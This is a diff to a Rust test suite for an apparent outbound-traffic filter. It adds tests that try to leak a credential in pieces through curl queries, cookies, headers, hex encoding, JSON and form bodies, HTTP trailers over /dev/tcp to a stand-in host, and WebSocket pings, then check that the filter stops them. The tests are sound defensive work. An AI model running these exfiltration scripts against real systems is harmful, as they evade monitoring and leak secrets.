@@ -69,6 +69,63 @@ lab_tests! {
         }
     }
 
+    fn pieces_in_every_place_of_requests_stop_with_the_last_one(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        let text = credential.text();
+        let pieces = [&text[..13], &text[13..26], &text[26..]];
+        let each = |one: &dyn Fn(usize, &str) -> String| {
+            let sent = pieces.iter().enumerate();
+            sent.map(|(number, piece)| one(number, piece)).collect::<String>()
+        };
+        let [a, b, c] = pieces;
+        let hex = |piece: &str| {
+            let digits = piece.bytes().flat_map(|byte| [byte >> 4, byte & 15]);
+            digits.filter_map(|digit| char::from_digit(u32::from(digit), 16)).collect::<String>()
+        };
+        let raw = |number: usize, piece: &str| format!(
+            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST /p{number} HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-t\\r\\n\\r\\n0\\r\\nx-t: {piece}\\r\\n\\r\\n' >&3; timeout 1 head -c 12 <&3 >/dev/null; exec 3>&-; "
+        );
+        for (name, script) in [
+            ("a query over requests", each(&|_, piece| format!("curl -sS \"$URL/x?d={piece}\"; "))),
+            ("a query with constants", each(&|_, piece| format!("curl -sS \"$URL/x?v=2&d={piece}&k=abc\"; "))),
+            ("a query of numbers", each(&|number, piece| format!("curl -sS \"$URL/x?n={number}&d={piece}\"; "))),
+            ("names of a query", each(&|_, piece| format!("curl -sS \"$URL/x?{piece}=1\"; "))),
+            ("a segment of the path", each(&|_, piece| format!("curl -sS \"$URL/v1/{piece}/x.png\"; "))),
+            ("segments of one path", format!("curl -sS \"$URL/v1/{a}/{b}/{c}/x\"; ")),
+            ("cookies", each(&|_, piece| format!("curl -sS -b 's=1; t={piece}; u=2' $URL/x; "))),
+            ("cookies of one field", format!("curl -sS -b 's=1; a={a}; b={b}; c={c}' $URL/x; ")),
+            ("names of cookies", each(&|_, piece| format!("curl -sS -b '{piece}=1' $URL/x; "))),
+            ("names of fields", each(&|_, piece| format!("curl -sS -H '{}: 1' $URL/x; ", hex(piece)))),
+            ("fields", each(&|_, piece| format!("curl -sS -H 'X-T: {piece}' $URL/x; "))),
+            ("pieces coded by themselves", each(&|_, piece| format!("curl -sS \"$URL/x?d={}\"; ", hex(piece)))),
+            ("trailers", each(&raw)),
+            ("a value between", format!("curl -sS --json '{{\"a\":\"{a}\",\"x\":\"word\",\"b\":\"{b}{c}\"}}' $URL/x; ")),
+            ("words beside", format!("curl -sS --json '{{\"p\":\"aws\",\"a\":\"{a}{b}\",\"b\":\"{c}\",\"r\":\"us-east-1\"}}' $URL/x; ")),
+            ("lines of settings", format!("printf 'p: aws\\na: {a}\\nb: \"{b}\"\\nc: {c}\\nr: us\\n' | curl -sS --data-binary @- $URL/x; ")),
+            ("cells of a table", format!("printf '1,{a},x\\n2,{b},x\\n3,{c},x\\n' | curl -sS --data-binary @- $URL/x; ")),
+            ("parts", format!("curl -sS -F a={a} -F b={b} -F c={c} $URL/x; ")),
+            ("head and content", format!("curl -sS -d {b}{c} \"$URL/x?d={a}\"; ")),
+        ] {
+            let outcome = confined(lab, Identity::Own).run(&bash(&(script + "curl -sS $URL/fine")));
+            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+            assert!(!sent.contains(c) && !sent.contains(&hex(c)), "{name}: {sent}");
+            assert!(sent.contains("GET /fine"), "{name}: the rest goes on: {sent} {outcome}");
+            assert_told(&outcome, name);
+        }
+    }
+
+    fn letters_one_by_one_stop_with_the_last_one(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
+        let letters = letters.join(" ");
+        let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/fine");
+        let outcome = confined(lab, Identity::Own).run(&bash(&script));
+        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+        assert_eq!(sent.matches("GET /x").count(), credential.text().len() - 1, "{sent}");
+        assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
+        assert_told(&outcome, "letters");
+    }
+
     fn pieces_of_requests_that_never_end_are_remembered(lab) {
         let (thief, credential) = (thief(), Credential::new());
         let (first, second) = credential.text().split_at(12);
@@ -119,12 +176,14 @@ lab_tests! {
         let two = [frame(0x81, first), frame(0x81, second)].concat();
         let binary = frame(0x82, &[b"\x00\xff\x00", text].concat());
         let ping = frame(0x89, text);
+        let pings = [frame(0x89, first), frame(0x89, second)].concat();
+        let beside = [frame(0x81, first), frame(0x89, second)].concat();
         let deflated = frame(0xc1, b"\x4a\x04\x00");
         let unmasked = [&[0x81, text.len() as u8][..], text].concat();
         let fine = [frame(0x81, b"hello"), frame(0x01, b"wor"), frame(0x80, b"ld")].concat();
         for (name, frames) in [
             ("whole", &whole), ("fragments", &fragments), ("two", &two), ("binary", &binary),
-            ("ping", &ping), ("deflated", &deflated), ("unmasked", &unmasked), ("fine", &fine),
+            ("ping", &ping), ("pings", &pings), ("beside", &beside), ("deflated", &deflated), ("unmasked", &unmasked), ("fine", &fine),
         ] {
             std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
             std::fs::write(given.join("frames"), frames).expect("a file");
@@ -144,7 +203,7 @@ lab_tests! {
             }
             let all = credential.text();
             assert!(!arrived.contains(&all[20..]), "{name}: {arrived}");
-            if name != "two" {
+            if !["two", "pings", "beside"].contains(&name) {
                 assert_contained(&outcome, &sent, &credential, name);
             }
             assert!(outcome.stderr.contains("outgate: denied"), "{name}: {outcome}");
